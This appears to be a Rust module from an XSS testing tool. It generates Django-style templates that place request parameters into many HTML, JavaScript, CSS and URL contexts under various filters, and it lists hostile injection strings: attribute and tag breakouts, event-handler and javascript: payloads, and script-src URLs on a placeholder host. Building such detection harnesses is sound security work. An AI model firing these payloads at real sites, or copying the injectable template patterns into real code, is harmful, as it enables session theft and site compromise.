//! Templates: places, filters, and ways to get from one to the other.

use serde_json::{Value, json};

/// A template, with those that it needs.
pub(crate) struct Case {
    /// Of its file.
    pub(crate) name: String,
    /// The template first, then those that it needs.
    pub(crate) files: Vec<(String, String)>,
}

/// Where a value may be printed: `[]` stands for it.
const PLACES: &[&str] = &[
    "<p>[]</p>",
    "<title>[]</title>",
    "<textarea>[]</textarea>",
    "<!-- [] -->",
    "<p title=\"[]\">a</p>",
    "<p title='[]'>a</p>",
    "<p title=[]>a</p>",
    "<p []>a</p>",
    "<p data-[]=\"a\">a</p>",
    "<[]>a</p>",
    "<a href=\"[]\">a</a>",
    "<a href='/a/[]'>a</a>",
    "<a href=\"?a=[]\">a</a>",
    "<a href=\"mailto:[]\">a</a>",
    "<a href=\"javascript:f('[]')\">a</a>",
    "<a href=\"javascript:f([])\">a</a>",
    "<form action=\"[]\"></form>",
    "<form><button formaction=\"[]\">a</button></form>",
    "<iframe src=\"[]\"></iframe>",
    "<img src=\"[]\">",
    "<p onclick=\"f('[]')\">a</p>",
    "<p onclick='f(\"[]\")'>a</p>",
    "<p onclick=\"f([])\">a</p>",
    "<script>var a = [];</script>",
    "<script>var a_[] = 1;</script>",
    "<script>var a = '[]';</script>",
    "<script>var a = \"[]\";</script>",
    "<script>var a = `[]`;</script>",
    "<script>var a = `${ '[]' }`;</script>",
    "<script>var a = /[]/;</script>",
    "<script>// []\n</script>",
    "<script>/* [] */</script>",
    "<script>f('[]', '{}');</script>",
    "<script>var a = '[]'; var b = '{}';</script>",
    "<script>f('[]',\n'{}');</script>",
    "<script>f('[]', \"{}\");</script>",
    "<script type=\"application/json\">{\"a\": \"[]\"}</script>",
    "<script type=\"text/template\"><p>[]</p></script>",
    "<svg><script>var a = '[]';</script></svg>",
    "<svg><a href=\"[]\"><text>a</text></a></svg>",
    "<style>p { color: [] }</style>",
    "<p style=\"color: []\">a</p>",
    "<iframe srcdoc=\"<p>[]</p>\"></iframe>",
    "<script src=\"[]\"></script>",
    "<script src=\"/[]\"></script>",
    "<script src=\"/a/[].js\"></script>",
    "<base href=\"[]\"><script src=\"a.js\"></script>",
    "<noscript>[]</noscript>",
    "<xmp>[]</xmp>",
];

/// What is done to the value.
const FILTERS: &[&str] = &[
    "",
    "|safe",
    "|escape",
    "|force_escape",
    "|force_escape|force_escape",
    "|escapejs",
    "|urlencode",
    "|slugify",
    "|length",
    "|safe|escape",
    "|default:'a'",
    "|safe|cut:'%'",
    "|truncatechars:300",
    "|addslashes",
    "|yesno:'a,b'",
    "|linebreaksbr",
];

/// Ways to the same place; `[]` stands for what is printed there.
const WAYS: &[&str] = &[
    "{% if request.GET.v %}[]{% else %}a{% endif %}",
    "{% if request.GET.none %}a{% elif request.GET.v %}[]{% endif %}",
    "{% for a in 'a' %}[]{% empty %}b{% endfor %}",
    "{% with w=request.GET.v %}{{ w }}{% endwith %}",
    "{% autoescape off %}[]{% endautoescape %}",
    "{% firstof request.GET.none request.GET.v %}",
    "{% filter force_escape %}[]{% endfilter %}",
];

/// What makes `f` a function.
const HEAD: &str = "<script>function f() {}</script>";

/// Every template.
pub(crate) fn all() -> Vec<Case> {
    let mut cases = Vec::new();
    for (index, place) in PLACES.iter().enumerate() {
        for filter in FILTERS {
            let first = format!("{{{{ request.GET.v{filter} }}}}");
            let second = format!("{{{{ request.GET.w{filter} }}}}");
            let body = place.replace("[]", &first).replace("{}", &second);
            add(&mut cases, &body, None);
        }
        let second = "{{ request.GET.w }}";
        // Each way to a few places: they have nothing to do with one another.
        for way in WAYS.iter().skip(index % 2).step_by(2) {
            let printed = way.replace("[]", "{{ request.GET.v }}");
            let body = place.replace("[]", &printed).replace("{}", second);
            add(&mut cases, &body, None);
        }
        let included = place.replace("[]", "{% include 'NAME' %}");
        let body = included.replace("{}", second);
        add(
            &mut cases,
            &body,
            Some(("include", "{{ request.GET.v }}".to_owned())),
        );
        let parent = place
            .replace("[]", "{% block b %}{% endblock %}")
            .replace("{}", second);
        let child = "{% extends 'NAME' %}{% block b %}{{ request.GET.v }}{% endblock %}";
        add(
            &mut cases,
            child,
            Some(("parent", format!("{HEAD}{parent}"))),
        );
    }
    cases
}

fn add(cases: &mut Vec<Case>, body: &str, other: Option<(&str, String)>) {
    let number = cases.len();
    let name = format!("{number}.html");
    let mut text = body.to_owned();
    let mut files = Vec::new();
    if let Some((kind, needed)) = other {
        let needed_name = format!("{number}-{kind}.html");
        text = text.replace("NAME", &needed_name);
        files.push((needed_name, needed));
    }
    if !text.starts_with("{% extends") {
        text.insert_str(0, HEAD);
    }
    files.insert(0, (name.clone(), text));
    cases.push(Case { name, files });
}

/// The number that the files of one case share.
pub(crate) fn owner(name: &str) -> &str {
    let name = name.strip_suffix(".html").unwrap_or(name);
    name.split('-').next().unwrap_or(name)
}

/// What a hostile sender may write as the first and the second value. `RUN` stands for what tells the browser's
/// page that a script ran, `NUMBER` for the page, `HOST` for a host with scripts of the sender's.
pub(crate) fn payloads() -> Vec<Value> {
    const ONE: &[&str] = &[
        "<img src onerror=RUN>",
        "\"><img src onerror=RUN>",
        "'><img src onerror=RUN>",
        " onmouseover=RUN a=",
        "img src onerror=RUN ",
        "a onmouseover=RUN b",
        "a\" onmouseover=\"RUN",
        "a=b onmouseover=RUN c",
        "javascript:RUN",
        "RUN",
        "=RUN,b",
        "');RUN;//",
        "\");RUN;//",
        "';RUN;//",
        "\";RUN;//",
        "`;RUN;//",
        "${RUN}",
        "a/;RUN;//",
        "a/+RUN+/a",
        "/+RUN+/",
        "*/RUN/*",
        "\nRUN\n",
        "%27);RUN;//",
        "%27,RUN,%27",
        "'+RUN+'",
        "</title><img src onerror=RUN>",
        "</textarea><img src onerror=RUN>",
        "--><img src onerror=RUN>",
        "</script><script>RUN</script>",
        "</style><img src onerror=RUN>",
        "</xmp><img src onerror=RUN>",
        "</noscript><img src onerror=RUN>",
        "<script>RUN</script>",
        "//HOST/hitNUMBER.js?",
        "/HOST/hitNUMBER.js?",
        "http://HOST/hitNUMBER.js?",
        "//HOST/hitNUMBER.js/",
        "data:text/html,<script>RUN</script>",
    ];
    const TWO: &[&str] = &[");RUN;//", ";RUN;//", "+RUN+", ",RUN);//"];
    let one = ONE.iter().map(|text| json!({ "v": text, "w": text }));
    let two = TWO.iter().map(|text| json!({ "v": "\\", "w": text }));
    one.chain(two).collect()
}
